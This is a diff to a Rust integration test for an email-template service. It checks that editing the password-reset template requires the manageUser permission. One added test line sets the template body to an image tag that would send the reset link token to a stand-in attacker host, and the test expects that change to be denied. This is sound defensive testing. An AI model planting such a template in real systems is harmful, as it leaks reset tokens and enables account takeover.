@@ -333,6 +333,26 @@ async fn overrides_take_precedence_and_reset_goes_back() {
             .into_inner();
         assert_ne!(again.etag, own.etag);
 
+        // The password reset's template sees the token: manageUser too.
+        let mut reset_email = override_of("", false, "en", "Reset {{login}}");
+        reset_email.kind = pb::EmailKind::PasswordReset.into();
+        reset_email.html_body = "<img src=\"https://attacker.example/?{{link}}\">".into();
+        let status = templates
+            .update_email_template(reset_email.clone())
+            .await
+            .expect_err("manageConfig alone");
+        assert_eq!(status.code(), Code::PermissionDenied, "{status:?}");
+        assert!(status.message().contains("manageUser"), "{status:?}");
+        let both = server
+            .create_key("acme", &["manageConfig", "manageUser"])
+            .await;
+        reset_email.html_body = "<p><a href=\"{{link}}\">Reset</a></p>".into();
+        server
+            .templates(&both)
+            .update_email_template(reset_email)
+            .await
+            .expect("manageConfig and manageUser");
+
         // Every kind in every language, paged.
         let mut listed = Vec::new();
         let mut page_token = String::new();
@@ -360,11 +380,18 @@ async fn overrides_take_precedence_and_reset_goes_back() {
             .collect();
         assert_eq!(
             origins,
-            [(
-                pb::EmailKind::PasswordChanged,
-                "en",
-                pb::TemplateOrigin::Organisation
-            )]
+            [
+                (
+                    pb::EmailKind::PasswordReset,
+                    "en",
+                    pb::TemplateOrigin::Organisation
+                ),
+                (
+                    pb::EmailKind::PasswordChanged,
+                    "en",
+                    pb::TemplateOrigin::Organisation
+                ),
+            ]
         );
 
         // Reset: the platform's applies again, then the built-in.
